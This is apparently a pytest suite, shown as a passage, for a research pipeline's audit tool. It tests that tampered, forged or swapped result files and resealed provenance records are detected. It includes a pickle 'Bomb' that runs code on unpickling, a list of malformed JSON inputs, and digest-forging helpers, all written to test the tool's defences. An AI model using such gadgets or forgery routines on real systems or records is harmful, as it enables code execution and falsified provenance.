"""An untouched study passes; whatever is changed, taken away or put in by strangers is noticed, and nothing of theirs is run."""

import hashlib
import io
import json
import os
import pickle
import random
import resource
import shutil
import subprocess
import sys
import tracemalloc
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from support.project import ROOT, refusal, run_here, run_script
from support.studies import find

from mixvae.files import read_json, sha256, write_json
from mixvae.measuring.evaluation import metrics as metrics_of
from mixvae.provenance import seal
from mixvae.review.audit import audit, plausible, training
from mixvae.review.audit.findings import FAILURE, NOTE, WARNING, Findings
from mixvae.review.audit.reading import LARGEST_TABLE, Unreadable, parse_mapping, read_parquet
from mixvae.review.audit.subject import read
from mixvae.review.audit.verdict import markdown, summary
from mixvae.study import load
from mixvae.study.jobs import all_jobs
from mixvae.study.metrics import METRICS, RECORD, TABLE, TRAINING
from mixvae.study.metrics import metrics_of as expected_metrics
from mixvae.study.outputs import PAGES

FLIPS = 60


@pytest.fixture
def expansion(small_study):
    return load(small_study / "small.yaml")


def failures(results: Path, expansion=None) -> list:
    return audit(results / "small", expansion).of(FAILURE)


def runs_of(results: Path, pattern: str = "*-vae-*") -> list[Path]:
    return sorted((results / "runs").glob(pattern))


def assert_noticed(found: list, rule: str, run: str, file: str, text: str = "") -> None:
    """Some failure names the rule, the run and the file."""
    match = [f for f in found if (f.rule, f.run) == (rule, run) and f.file.endswith(file) and text in f.message]
    assert match, [f[2:] for f in found]


def forge(record: Path, **changes: str) -> None:
    """Write digests into a record and seal it again, as somebody would who knows how: {"outputs": {name: file}}."""
    facts = read_json(record)
    for kind, files in changes.items():
        names = {Path(name).name: name for name in facts[kind]}
        facts[kind] |= {names[Path(file).name]: sha256(file) for file in files}
    reseal(record, **facts)


def reseal(record: Path, **changes: object) -> None:
    """Write facts into a record and seal it again."""
    facts = read_json(record) | changes
    write_json(record, facts | {"seal": seal(facts)})


def forge_all(results: Path, run: Path, rule: str, *files: str) -> None:
    """Hide a change of a run's files in every record and the manifest: only what the files say is left to give it away."""
    study = results / "small"
    forge(find(run, f"provenance/{rule}.json"), outputs=[find(run, file) for file in files])
    manifest = read_json(study / "manifest.json")
    for record in run.rglob("provenance/*.json"):
        forge(record, inputs=[results.parent / name for name in read_json(record)["inputs"] if f"/{run.name}/" in name])
        manifest[str(record.relative_to(results))] = sha256(record)
    write_json(study / "manifest.json", manifest)
    for of_all in ("tabulate", "figures"):
        facts = read_json(study / f"provenance/{of_all}.json")
        for name in facts["inputs"]:
            if f"/{run.name}/" in name:
                facts["inputs"][name] = sha256(results.parent / name)
        if of_all == "tabulate":
            facts["outputs"]["results/small/manifest.json"] = sha256(study / "manifest.json")
        reseal(study / f"provenance/{of_all}.json", **facts)


def forged(results: Path, run: Path, rule: str, *files: str) -> list:
    """Hide a change in every record, and return the failures, none of which is about digests."""
    forge_all(results, run, rule, *files)
    found = failures(results)
    assert not any(finding.check == "intact" for finding in found), found
    return found


def edit_json(path: Path, change) -> None:
    content = read_json(path)
    change(content)
    path.write_text(json.dumps(content))


def test_an_untouched_study_passes_and_says_so(study_copy):
    assert not failures(study_copy / "results")
    result = run_script("audit", "small.yaml", cwd=study_copy)
    assert result.returncode == 0, result.stderr
    assert "small: passed" in result.stdout
    rules = [line.split() for line in result.stdout.splitlines()]
    assert ["train", "5", "1", "4", "0"] in rules  # stopped by their three epochs
    assert ["latents", "4", "4", "0", "0"] in rules
    written = read_json(study_copy / "results/small/audit.json")
    assert written["passed"]
    assert {(f["level"], f["check"]) for f in written["findings"]} >= {(WARNING, "plausible"), (NOTE, "plausible")}
    (told,) = [f for f in written["findings"] if f["level"] == NOTE and "-elbo from K = 1 to 2: " in f["message"]]
    (row,) = [row for row in pd.read_csv(study_copy / told["file"]).to_dict("records") if row["metric"] == "-elbo"]
    delta, low, high, p = (row[name] for name in ("delta", "low", "high", "p_adjusted"))
    assert f"standard+none: -elbo from K = 1 to 2: {delta:+.4f} [{low:+.4f}, {high:+.4f}], Holm-adjusted p" in told["message"]
    assert told["message"].endswith("no difference shown" if p >= 0.05 else "better" if delta < 0 else "worse")
    assert any("no better than the constant" in f["message"] for f in written["findings"] if f["level"] == WARNING)
    assert (study_copy / "results/small/audit.md").read_text().startswith("# Audit of small\n\npassed: ")


def test_a_failed_audit_exits_with_one_and_names_the_file(results):
    run = runs_of(results)[0]
    (run / "history.csv").write_text("epoch\n")
    result = run_here("audit", "results/small", cwd=results.parent)
    assert result.returncode == 1
    assert f"failure: results/runs/{run.name}/history.csv: changed since it was made" in result.stderr
    assert f"rule train of {run.name}" in result.stderr
    assert "Traceback" not in result.stderr
    assert not read_json(results / "small/audit.json")["passed"]
    assert "history.csv" in (results / "small/audit.md").read_text()


def covered(results: Path, expansion) -> list[Path]:
    files = {file for job in all_jobs("small", expansion.runs, expansion.datasets, results) for file in job.files}
    return sorted({*files, *results.glob("datasets/*/raw/*")})


def test_any_flipped_byte_is_noticed(results, expansion):
    seed = random.randrange(1 << 32)
    print(f"seed {seed}")
    chance, files = random.Random(seed), covered(results, expansion)
    assert {path.suffix for path in files} >= {".npz", ".json", ".csv", ".h5ad", ".parquet", ".png", ".pdf", ".tex", ".gz"}
    assert not failures(results, expansion)
    chosen = chance.sample(files, min(FLIPS, len(files)))
    # several files at a time, since an audit reads all anyway; but what vouches for others alone, as they cannot be checked without
    alone = [path for path in chosen if path.parent.name == "provenance" or path.name == "study.json"]
    others = [path for path in chosen if path not in alone]
    for group in [*([path] for path in alone), *(others[start : start + 6] for start in range(0, len(others), 6))]:
        before = {path: path.read_bytes() for path in group}
        for path, content in before.items():
            place, bit = chance.randrange(len(content)), 1 << chance.randrange(8)
            path.write_bytes(content[:place] + bytes([content[place] ^ bit]) + content[place + 1 :])
        named = {finding.file for finding in failures(results, expansion)}
        for path, content in before.items():
            assert str(path) in named, f"seed {seed}: {path} was changed unnoticed"
            path.write_bytes(content)
    assert not failures(results, expansion)


@pytest.mark.parametrize("name", ["likelihood.json", "model.safetensors", "latents.h5ad", "spec.json", "provenance/train.json"])
def test_swapped_files_are_noticed(results, name):
    one, other = (find(folder, name) for folder in runs_of(results, "*-vae-K2-*"))
    kept = one.read_bytes()
    one.write_bytes(other.read_bytes())
    other.write_bytes(kept)
    found = failures(results)
    for path in (one, other):
        assert any(f.file == str(path) and f.run in str(path) for f in found)


def test_swapped_runs_are_noticed(results):
    one, other = runs_of(results, "*-vae-K1-*")
    one.rename(results / "aside")
    other.rename(one)
    (results / "aside").rename(other)
    found = failures(results)
    for folder in (one, other):
        assert_noticed(
            found, "train", folder.name, "spec.json", f"the spec is that of run {({one, other} - {folder}).pop().name}"
        )
        assert_noticed(found, "evaluate", folder.name, "evaluate.json", "the record is of seed")


def test_a_deleted_seed_is_noticed(results):
    run = runs_of(results, "*-s1-*")[0]
    shutil.rmtree(run)
    found = failures(results)
    for rule in ("train", "evaluate", "latents"):
        assert_noticed(
            found, rule, run.name, ".json" if rule != "latents" else "", "(seed 1); and failures.csv does not say so"
        )


def test_a_seed_left_out_of_the_study_is_noticed_by_its_config(results, expansion):
    run = runs_of(results, "*-s1-*")[0].name
    edit_json(results / "small/study.json", lambda content: content["runs"].pop(run))
    forge(results / "small/provenance/study.json", outputs=[results / "small/study.json"])
    assert_noticed(failures(results, expansion), "study", "small", "study.json", f"run {run} (seed 1) of the config is not in")
    assert_noticed(failures(results), "tabulate", "small", "metrics.csv", f"has values of {run}, which is no run")


def test_a_run_that_failures_csv_lists_is_accounted_for_and_still_a_hole(results):
    run = runs_of(results, "*-s1-*")[0]
    path = results / "small/failures.csv"
    path.write_text(f"run,rule,log\n{run.name},evaluate,killed\n")
    assert_noticed(failures(results), "tabulate", "small", "failures.csv", "all files of which are there")
    find(run, "likelihood.json").unlink()
    found = failures(results)
    assert_noticed(found, "evaluate", run.name, "likelihood.json", "failures.csv: failed at rule evaluate")
    assert not any("all files of which are there" in finding.message for finding in found)
    path.write_text("run,rule,log\nanother,evaluate,killed\n")
    assert_noticed(failures(results), "tabulate", "small", "failures.csv", "another, which is no run")


def test_an_edited_cell_is_noticed_even_when_the_records_are_forged(results):
    path = results / "small/tables/latent_digits.csv"
    table = pd.read_csv(path)
    table.loc[0, "mean"] -= 0.01
    table.to_csv(path, index=False)
    assert_noticed(failures(results), "tabulate", "small", "latent_digits.csv", "changed since it was made")
    forge(results / "small/provenance/tabulate.json", outputs=[path])
    (finding,) = failures(results)
    assert finding.check == "recomputed"
    assert "row 1, column mean" in finding.message


@pytest.mark.parametrize("name", ["metrics.csv", "metrics.parquet", "tables/latent_digits.md"])
def test_edited_metrics_and_texts_are_noticed_even_when_the_records_are_forged(results, name):
    path = results / "small" / name
    if path.suffix == ".md":
        path.write_text(path.read_text().replace("0.", "0.9", 1))
    else:
        frame = pd.read_csv(path) if path.suffix == ".csv" else pd.read_parquet(path)
        frame.loc[3, "value"] += 1e-6
        frame.to_csv(path, index=False) if path.suffix == ".csv" else frame.to_parquet(path, index=False)
    assert_noticed(failures(results), "tabulate", "small", name, "changed since it was made")
    forge(results / "small/provenance/tabulate.json", outputs=[path])
    found = failures(results)
    assert_noticed(found, "tabulate", "small", name, "not what the runs' files give")


@pytest.mark.parametrize("record", ["runs/*-K2-*-s0-*/provenance/train.json", "datasets/digits/provenance/prepare.json",
                                    "small/provenance/study.json", "small/provenance/tabulate.json",
                                    "small/provenance/figures.json"])  # fmt: skip
@pytest.mark.parametrize("how", ["value", "whitespace"])
def test_an_edited_record_is_noticed(results, record, how):
    (path,) = results.glob(record)
    text = path.read_text()
    seconds = f'"seconds": {read_json(path)["seconds"]}'
    assert seconds in text
    path.write_text(text.replace(seconds, '"seconds": 0.5') if how == "value" else text.replace('": ', '":  ', 1))
    assert any(f.file == str(path) and "edited" in f.message for f in failures(results))
    if how == "value" and "small/provenance" not in record:  # the manifest does not go by the seal
        reseal(path)
        (finding,) = [f for f in failures(results) if f.file == str(path) and f.check == "intact" and f.rule == path.stem]
        assert "since the tables were made" in finding.message


def test_what_no_rule_makes_is_warned_of(results):
    run = runs_of(results)[0]
    put = [results / "small/tables/ablation_mnist.csv", run / "model.pt", results / "datasets/digits/raw/more.gz"]
    for path in put:
        path.write_text("")
    found = audit(results / "small")
    assert {f.file for f in found.all if f.check == "strays"} == {str(path) for path in put}
    assert not found.of(FAILURE)


@pytest.mark.parametrize("rule", ["report", "export"])
def test_a_page_made_of_the_results_is_kept_an_eye_on(results, rule):
    made = run_here(rule, "results/small", cwd=results.parent)
    assert made.returncode == 0, made.stderr
    assert not audit(results / "small").of(FAILURE)
    assert summary(audit(results / "small"))[rule] == {"checked": 1, "passed": 1, "warned": 0, "failed": 0}
    path = results / "small" / PAGES[rule]
    whole = path.read_bytes()
    path.write_bytes(whole[:99] + bytes([whole[99] ^ 1]) + whole[100:])
    assert_noticed(
        failures(results),
        rule,
        "small",
        path.name,
        f"changed since it was made: sha256 expected {hashlib.sha256(whole).hexdigest()}",
    )
    path.write_bytes(whole)
    record = results / f"small/provenance/{rule}.json"
    write_json(record, read_json(record) | {"seconds": 0.1})
    assert_noticed(failures(results), rule, "small", record.name, "edited")
    record.unlink()
    assert_noticed(failures(results), rule, "small", path.name, "no such file")
    # a page of other results, be it older ones or some that were put there for it only
    run_here(rule, "results/small", cwd=results.parent)
    table = results / "small/tables/ablation_digits.csv"
    kept = table.read_text()
    table.write_text(kept.replace("0.", "0.9", 1))
    assert_noticed(failures(results), rule, "small", path.name, f"made of other results than are there now; make {rule} again")
    table.write_text(kept)
    assert not audit(results / "small").of(FAILURE)


def test_a_page_made_while_a_table_was_forged_is_not_believed_when_the_table_is_put_back(results):
    table = results / "small/tables/ablation_digits.csv"
    kept = table.read_text()
    table.write_text(kept.replace("0.", "0.9", 1))
    run_here("report", "results/small", cwd=results.parent)
    table.write_text(kept)
    assert_noticed(failures(results), "report", "small", "report.html", "made of other results than are there now")


def test_snakemakes_rule_looks_at_what_is_there_and_makes_nothing_anew(study_copy):
    results = study_copy / "results"
    for path in results.rglob("data.npz"):  # all that was made from it looks old, as after copying
        os.utime(path)
    before = {path: sha256(path) for path in results.rglob("provenance/*.json")}
    command = [sys.executable, "-m", "snakemake", "--configfile", "small.yaml", "--cores", "1", "audit", "report"]
    result = subprocess.run(command, cwd=study_copy, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stdout + result.stderr
    assert read_json(results / "small/audit.json")["passed"]
    assert (results / "small/report.html").is_file()
    assert {path: sha256(path) for path in before} == before
    # a change that no time gives away, and a verdict that is there already
    weights = next(results.glob("runs/*/model.safetensors"))
    times, content = weights.stat(), weights.read_bytes()
    weights.write_bytes(content[:-1] + bytes([content[-1] ^ 1]))
    os.utime(weights, ns=(times.st_atime_ns, times.st_mtime_ns))
    result = subprocess.run(command[:-1], cwd=study_copy, capture_output=True, text=True, check=False)
    assert result.returncode == 1
    assert not read_json(results / "small/audit.json")["passed"]
    assert weights.name in (results / "small/audit.md").read_text()
    assert {path: sha256(path) for path in before} == before


def test_a_page_is_not_recorded_outside_of_the_study(results, tmp_path):
    shutil.move(results / "small/provenance", tmp_path / "outside")
    (results / "small/provenance").symlink_to(tmp_path / "outside")
    before = sorted(path.name for path in (tmp_path / "outside").iterdir())
    result = run_here("report", "results/small", cwd=results.parent)
    assert result.returncode == 1
    assert "provenance: a link" in result.stderr.splitlines()[-1]
    assert sorted(path.name for path in (tmp_path / "outside").iterdir()) == before


def test_other_splits_than_the_catalogues_are_noticed_without_a_config(results):
    path = results / "small/study.json"
    edit_json(path, lambda content: content["datasets"]["digits"]["splits"].update(test=100))
    forge(results / "small/provenance/study.json", outputs=[path])
    text = "what it says of data set digits is not what the config or catalogue says"
    assert_noticed(failures(results), "study", "small", "study.json", text)


def test_a_replaced_spec_is_noticed(results):
    path, run = results / "small/study.json", runs_of(results, "*-K2-*")[0].name
    edit_json(path, lambda content: content["runs"][run]["training"].update(learning_rate=0.1))
    forge(results / "small/provenance/study.json", outputs=[path])
    found = failures(results)
    assert_noticed(found, "study", "small", "study.json", f"run {run} has the spec of ")
    assert_noticed(found, "train", run, "spec.json", "not the run's spec in study.json")
    assert_noticed(found, "evaluate", run, "evaluate.json", "the spec in the record is not")


def test_other_data_than_published_is_noticed_even_when_all_records_are_forged(results):
    folder = results / "datasets/digits"
    raw = folder / "raw/digits.csv.gz"
    raw.write_bytes(raw.read_bytes() + b"\0")
    facts = read_json(folder / "raw.json")
    facts["files"]["digits.csv.gz"]["sha256"] = sha256(raw)
    write_json(folder / "raw.json", facts)
    forge(folder / "provenance/download.json", outputs=[raw, folder / "raw.json"])
    forge(folder / "provenance/prepare.json", inputs=[raw, folder / "raw.json"])
    assert_noticed(failures(results), "download", "digits", "digits.csv.gz", "not the published file: sha256 expected 09f66e6d")


@pytest.mark.parametrize(
    ("change", "text"),
    [
        (lambda m: m["nll"].update(value=float("nan")), "NaN is no number"),
        (lambda m: m["nll"].update(value=float("inf")), "Infinity is no number"),
        (lambda m: m["nll"].update(value=10**400), "nll"),
        (lambda m: m["nll"].update(value="44"), "not finite numbers"),
        (lambda m: m["nll"].update(value=None), "not finite numbers"),
        (lambda m: m.update(nll=[1]), "cannot be checked"),
        (lambda m: m.pop("ess"), "metric ess is not there"),
        (lambda m: m["nll"].update(value=m["nll"]["value"] - 1), "nll: value"),
        (lambda m: m["nll"].update(value=-m["elbo"]["value"] + 1), "nll <= nll_miselbo is violated"),
        (lambda m: m["jsd"].update(value=0.8), "jsd 0.8 is outside of [0, log K]"),
    ],
)
def test_metrics_that_cannot_be_are_noticed_even_when_all_records_are_forged(results, change, text):
    run = runs_of(results, "*-K2-*")[0]
    edit_json(find(run, "likelihood.json"), lambda content: change(content["metrics"]))
    found = forged(results, run, "evaluate", "likelihood.json")
    assert_noticed(found, "evaluate", run.name, "likelihood.json", text)


def points(run: Path, name: str = "pointwise.npz", **changes) -> None:
    with np.load(find(run, name)) as file:
        arrays = dict(file)
    np.savez(find(run, name), **{**arrays, **{name: change(arrays[name]) for name, change in changes.items()}})


@pytest.mark.parametrize(
    ("changes", "text"),
    [
        ({"nll": lambda a: np.where(np.arange(len(a)) == 7, np.nan, a)}, "nll: 1 values are not finite, first 7"),
        ({"nll": lambda a: a + (np.arange(len(a)) == 5) * 9}, "nll <= nll_miselbo is violated by 1 test points, first 5"),
        ({"nll_miselbo": lambda a: a + 9}, "nll_miselbo <= -elbo is violated"),
        ({"kl": lambda a: a + 0.1}, "reconstruction + kl = -elbo is violated"),
        ({"jsd": lambda a: a + 1}, "jsd <= log K is violated"),
        ({"ess": lambda a: a * 0 + 101}, "ess in [1, 100] is violated"),
        ({"elbo": lambda a: a[:-1]}, "shape"),
        ({"elbo_components": lambda a: a[:, :1]}, "elbo_components: shape"),
        ({"nll": lambda a: a.astype(int)}, "nll is not an array of real numbers"),
        ({"nll": lambda a: a.astype(str)}, "nll is not an array of numbers"),
        ({"nll": lambda a: np.array(0.5)}, "nll: shape ()"),
    ],
)
def test_values_of_test_points_that_cannot_be_are_noticed(results, changes, text):
    run = runs_of(results, "*-K2-*")[0]
    points(run, **changes)
    assert_noticed(forged(results, run, "evaluate", "pointwise.npz"), "evaluate", run.name, "pointwise.npz", text)


@pytest.mark.parametrize(
    ("change", "text"),
    [
        (lambda m: m["approximation_gap"].update(value=-9.0), "approximation_gap is below 0 by more than its error: -9.0000"),
        (lambda m: m["ais_gap"].update(value=-9.0, mc_error=0.1), "ais_gap is below 0 by more than its error"),
        (lambda m: m["nll_ais"].update(value=m["nll_ais"]["value"] - 1), "nll_ais: value"),
        (lambda m: m["nll_train"].update(mc_error=0.0), "nll_train: mc_error 0.0"),
        (lambda m: m.pop("generalisation_gap"), "metric generalisation_gap is not there"),
    ],
)
def test_annealed_likelihoods_that_cannot_be_are_noticed(results, change, text):
    run = runs_of(results, "*-K2-*")[0]
    edit_json(find(run, "bracket.json"), lambda content: change(content["metrics"]))
    assert_noticed(forged(results, run, "bracket", "bracket.json"), "bracket", run.name, "bracket.json", text)


@pytest.mark.parametrize(
    ("changes", "text"),
    [
        ({"nll_ais": lambda a: a[:-1]}, "nll_ais of bracket.npz: expected 30 finite numbers"),
        ({"positions": lambda a: a + 300}, "positions of bracket.npz: expected indices of 300 test points"),
    ],
)
def test_annealed_values_that_cannot_be_are_noticed(results, changes, text):
    run = runs_of(results, "*-K2-*")[0]
    points(run, "bracket.npz", **changes)
    assert_noticed(forged(results, run, "bracket", "bracket.npz"), "bracket", run.name, "bracket.json", text)


def test_an_annealed_likelihood_above_another_estimate_is_warned_of(results):
    run = runs_of(results, "*-K2-*")[0]
    points(run, "bracket.npz", nll_ais=lambda a: a + 9)
    edit_json(find(run, "bracket.json"), lambda m: m["metrics"]["nll_ais"].update(value=m["metrics"]["nll_ais"]["value"] + 9))
    forge_all(results, run, "bracket", "bracket.npz", "bracket.json")
    told = [finding.message for finding in audit(results / "small").of(WARNING) if finding.run == run.name]
    assert {text.split(" by ")[0] for text in told if text.startswith("nll_ais")} == {
        f"nll_ais is above {name}" for name in ("nll", "nll_matched", "nll_adaptive")
    }


def test_fewer_test_points_are_noticed_even_when_means_and_all_records_follow(results, expansion):
    """The best third of the points, in every run."""
    best = None
    for run in sorted((results / "runs").iterdir()):
        with np.load(find(run, "pointwise.npz")) as file:
            arrays = dict(file)
        best = np.argsort(arrays["nll"])[:100] if best is None else best
        arrays = {name: array[best] for name, array in arrays.items()}
        np.savez(find(run, "pointwise.npz"), **arrays)
        likelihood = read_json(find(run, "likelihood.json"))
        for name, entry in metrics_of(arrays).items():
            likelihood["metrics"][name] = entry
        write_json(find(run, "likelihood.json"), likelihood)
        forge_all(results, run, "evaluate", "pointwise.npz", "likelihood.json")
    for run in (results / "runs").iterdir():
        assert_noticed(failures(results), "evaluate", run.name, "pointwise.npz", "shape (100,), expected (300,)")
        write_json(find(run, "likelihood.json"), read_json(find(run, "likelihood.json")) | {"points": 100})
        forge_all(results, run, "evaluate", "likelihood.json")
        assert_noticed(failures(results), "evaluate", run.name, "likelihood.json", "points: found 100, expected 300")


@pytest.mark.parametrize(
    ("file", "metric", "change", "text"),
    [
        ("likelihood.json", None, {"K": 3}, "K: found 3, expected 2"),
        ("likelihood.json", None, {"samples_per_component": 5000}, "samples_per_component: found 5000, expected 50"),
        ("latent_metrics.json", None, {"points": 10}, "points: found 10, expected 300"),
        ("latent_metrics.json", None, {"probe_points": 1297}, "probe_points: found 1297, expected 200"),
        ("training.json", None, {"parameters": 10}, "parameters 10, but "),
        ("training.json", None, {"stopped_by": "patience"}, "stopped_by 'patience', but 'budget' by history.csv"),
        ("training.json", None, {"epochs": 100}, "epochs 100, but 3 by history.csv"),
        ("training.json", None, {"best_epoch": 700}, "best_epoch 700, but 2 by history.csv"),
        ("training.json", None, {"epochs": None}, "epochs None, but 3"),
        ("latent_metrics.json", "ari", {"value": 3}, "ari 3 is outside of [-1, 1]"),
        ("latent_metrics.json", "nmi", {"value": -0.2}, "nmi -0.2 is outside of [0, 1]"),
        ("latent_metrics.json", "asw_true", {"value": 1.5}, "asw_true 1.5 is outside of [-1, 1]"),
        ("latent_metrics.json", "active_units", {"value": -7}, "active_units -7 is no number of 3 units"),
        ("latent_metrics.json", "active_units", {"value": 4}, "active_units 4 is no number of 3 units"),
        ("latent_metrics.json", "active_units", {"value": 1.5}, "active_units 1.5 is no number of 3 units"),
        ("latent_metrics.json", "accuracy_knn", {"value": 301 / 300}, "is no share of 300 test points"),
        ("latent_metrics.json", "accuracy_svm", {"value": 0.999}, "accuracy_svm 0.999 is no share of 300 test points"),
        ("latent_metrics.json", "accuracy_mlp", {"stderr": -0.1}, "accuracy_mlp: the standard error -0.1 is negative"),
    ],
)
def test_what_contradicts_the_spec_or_other_files_or_is_out_of_range_is_noticed(results, file, metric, change, text):
    run = runs_of(results, "*-K2-*")[0]
    rule = {"likelihood.json": "evaluate", "latent_metrics.json": "latents", "training.json": "train"}[file]
    edit_json(find(run, file), lambda content: (content["metrics"][metric] if metric else content).update(change))
    assert_noticed(forged(results, run, rule, file), rule, run.name, file, text)


def edit_history(change):
    def edit(run: Path) -> None:
        table = pd.read_csv(run / "history.csv", float_precision="round_trip")
        change(table).to_csv(run / "history.csv", index=False)

    return edit


@pytest.mark.parametrize(
    ("change", "text"),
    [
        (lambda t: t.iloc[:1] * np.nan, "not rows of numbers"),
        (lambda t: (t.iloc[:1] * np.nan).fillna("nan"), "epoch: not finite at epoch 0"),
        (lambda t: t.iloc[:2], "ends after 2 of 3 epochs, before its patience did"),
        (lambda t: t.iloc[:0], "0 epochs, expected 1 to 3"),
        (lambda t: pd.concat([t, t]).assign(seconds=1.0), "6 epochs, expected 1 to 3"),
        (lambda t: t.iloc[[0, 2, 1]], "seconds: they go back"),
        (lambda t: t.assign(epoch=t.epoch + 1), "epochs are not numbered from 0 to 2"),
        (lambda t: t.assign(beta=1.0), "beta is not that of a warm-up of 2 epochs"),
        (lambda t: t.assign(seconds=-t.seconds), "seconds: they go back"),
        (lambda t: t.assign(valid_bound="high"), "not rows of numbers"),
        (lambda t: t.drop(columns="beta"), "columns 'epoch,train_objective"),
    ],
)
def test_a_history_that_no_training_has_is_noticed(results, change, text):
    run = runs_of(results, "*-K2-*")[0]
    edit_history(change)(run)
    assert_noticed(forged(results, run, "train", "history.csv"), "train", run.name, "history.csv", text)


def test_a_history_of_another_best_epoch_or_length_contradicts_training(results):
    run = runs_of(results, "*-K2-*")[0]
    edit_history(lambda t: t.assign(valid_bound=-1.0, seconds=t.seconds + 1))(run)
    found = forged(results, run, "train", "history.csv")
    assert_noticed(found, "train", run.name, "training.json", "best_epoch 2, but 0 by history.csv")  # the first of equal ones
    assert_noticed(found, "train", run.name, "provenance/train.json", "by history.csv")


@pytest.mark.parametrize(
    ("bounds", "warmup", "stopped_by"),
    [
        ([1, 2, 3, 4], 0, "budget"),
        ([1, 3, 2], 0, "budget"),
        ([1, 3, 2, 2], 0, "patience"),
        ([3, 2, 1], 0, "patience"),
        ([3, 2, 1], 1, "patience"),
        ([3, 2, 1, 0], 2, "patience"),
        ([1, 1, 1], 0, "patience"),
        ([2, 1], 0, "ends after 2 of 5 epochs, before its patience did"),
        ([3, 2, 1], 2, "ends after 3 of 5 epochs, before its patience did"),
        ([3, 2, 1, 4, 5], 0, "goes on after epoch 2, at which its patience ended"),
    ],
)
def test_what_ended_a_training_follows_from_its_history(results, bounds, warmup, stopped_by):
    """With a patience of two epochs; the warm-up, of the first `warmup`, does not count."""
    subject, _ = read(results / "small", None)
    run = next(run for run, spec in subject.study.runs.items() if spec.model == "vae")
    spec = subject.study.runs[run]
    epochs = len(bounds) if stopped_by == "budget" else 5
    settings = spec.training.model_copy(update={"epochs": epochs, "warmup": warmup, "patience": 2})
    beta = [1.0 if warmup < 2 else min(1.0, epoch / (warmup - 1)) for epoch in range(len(bounds))]
    columns = {"epoch": range(len(bounds)), "beta": beta, "train_objective": 0.0, "train_reconstruction": 0.0, "train_kl": 0.0}
    path = results / "runs" / run / "history.csv"
    pd.DataFrame({**columns, "valid_bound": bounds, "seconds": 1.0}).to_csv(path, index=False)
    try:
        found = training._of_history(path, spec.model_copy(update={"training": settings}), subject)["stopped_by"]
    except Unreadable as reason:
        found = str(reason)
    assert found == stopped_by


def header(content: bytes) -> bytes:
    return len(content).to_bytes(8, "little") + content


@pytest.mark.parametrize(
    ("content", "file", "text"),
    [
        (b"garbage", "model.safetensors", "not readable weights"),
        (b"", "model.safetensors", "not readable weights"),
        ((1 << 62).to_bytes(8, "little") + b"{}", "model.safetensors", "not readable weights"),
        (header(b"[" * 100_000), "model.safetensors", "not readable weights"),
        (header(b'{"a":{"dtype":"F32","shape":[9],"data_offsets":[0,36]}}'), "model.safetensors", "not readable weights"),
        (header(b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}') + b"1234", "training.json", "but 1 by model.safe"),
    ],
)
def test_weights_that_are_none_or_not_as_many_are_noticed(results, content, file, text):
    run = runs_of(results, "*-K2-*")[0]
    (run / "model.safetensors").write_bytes(content)
    assert_noticed(forged(results, run, "train", "model.safetensors"), "train", run.name, file, text)


@pytest.mark.parametrize(
    ("change", "text"),
    [
        ({"seconds": -5}, "seconds -5 is less than nothing"),
        ({"peak_memory_mb": -1}, "peak_memory_mb -1 is less than nothing"),
        ({"seconds": "long"}, "cannot be checked"),
        ({"seconds": 1e300}, "cannot be checked"),
        ({"start": "yesterday"}, "cannot be checked"),
        ({"start": "2026-01-01T00:00:00"}, "has no time zone"),
    ],
)
def test_times_that_are_none_are_noticed(results, change, text):
    reseal(find(runs_of(results)[0], "provenance/evaluate.json"), **change)
    found = [f for f in failures(results) if f.check == "times"]
    assert_noticed(found, "evaluate", runs_of(results)[0].name, "evaluate.json", text)


def test_a_job_before_what_it_read_is_warned_of(results):
    run = runs_of(results)[0]
    for year, warned in ((1999, ["train", run.name]), (2999, [])):
        reseal(find(run, "provenance/evaluate.json"), start=f"{year}-01-01T00:00:00+00:00")
        told = [f for f in audit(results / "small").of(WARNING) if (f.check, f.rule) == ("times", "evaluate")]
        assert [f.message.split("before ")[1].split(",")[0].split() for f in told] == [warned] * bool(warned)
    # the tables have read them
    (told,) = [f for f in audit(results / "small").of(WARNING) if f.check == "times"]
    assert told.rule == "tabulate"


class Bomb:
    """Makes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = str(path)

    def __reduce__(self):
        return Path.touch, (Path(self.path),)


def test_nothing_of_a_strangers_file_is_executed(results, tmp_path):
    run, mark = runs_of(results)[0], tmp_path / "executed"
    np.savez(find(run, "pointwise.npz"), nll=np.array([Bomb(mark)], dtype=object))
    with np.load(find(run, "pointwise.npz"), allow_pickle=True) as file:
        assert file["nll"].dtype == object
    assert mark.exists()  # the bomb works
    mark.unlink()
    forge_all(results, run, "evaluate", "pointwise.npz")
    assert_noticed(failures(results), "evaluate", run.name, "pointwise.npz", "Object arrays cannot be loaded")
    find(run, "pointwise.npz").write_bytes(pickle.dumps(Bomb(mark)))
    forge_all(results, run, "evaluate", "pointwise.npz")
    assert_noticed(failures(results), "evaluate", run.name, "pointwise.npz", "not readable arrays")
    assert not mark.exists()


def test_links_out_of_the_results_are_not_followed(results, tmp_path):
    run, outside = runs_of(results)[0], tmp_path / "outside"
    outside.mkdir()
    for name in ("likelihood.json", "provenance/latents.json"):
        path = find(run, name)
        shutil.move(path, outside / path.name)
        path.symlink_to(outside / path.name)
    found = failures(results)
    assert_noticed(found, "evaluate", run.name, "likelihood.json", "a link that leads out of the results")
    assert_noticed(found, "latents", run.name, "latents.json", "a link that leads out of the results")
    # the whole folder of another run, and a study that is a link
    other = runs_of(results)[1]
    shutil.move(other, outside / other.name)
    other.symlink_to(outside / other.name)
    assert_noticed(failures(results), "train", other.name, "spec.json", "a link that leads out of the results")
    (results / "small/audit.json").unlink(missing_ok=True)
    shutil.move(results / "small", outside / "small")
    (results / "small").symlink_to(outside / "small")
    assert refusal("audit", "results/small", cwd=tmp_path).startswith("results/small: a link that leads out of results")
    assert not (outside / "small/audit.json").exists()


NESTED = "[" * 100_000
HOSTILE = [
    b"",
    b"{",
    b"[]",
    b"null",
    b"\xff\xfe\0",
    NESTED.encode(),
    b'{"a": 1e999}',
    b'{"a": NaN}',
    b"9" * 5000,
    b'{"inputs": 3, "outputs": []}',
    b'{"a": "\\ud800"}',
    b'{"\\udc00": 1}',
    b'{"a":' * 100 + b"1" + b"}" * 100,
]


@pytest.mark.parametrize("name", ["small/study.json", "small/manifest.json", "small/metrics.csv", "small/failures.csv",
                                  "small/metrics.parquet", "small/provenance/tabulate.json", "datasets/digits/raw.json",
                                  "datasets/digits/dataset.json", "RUN/spec.json", "RUN/likelihood.json", "RUN/training.json",
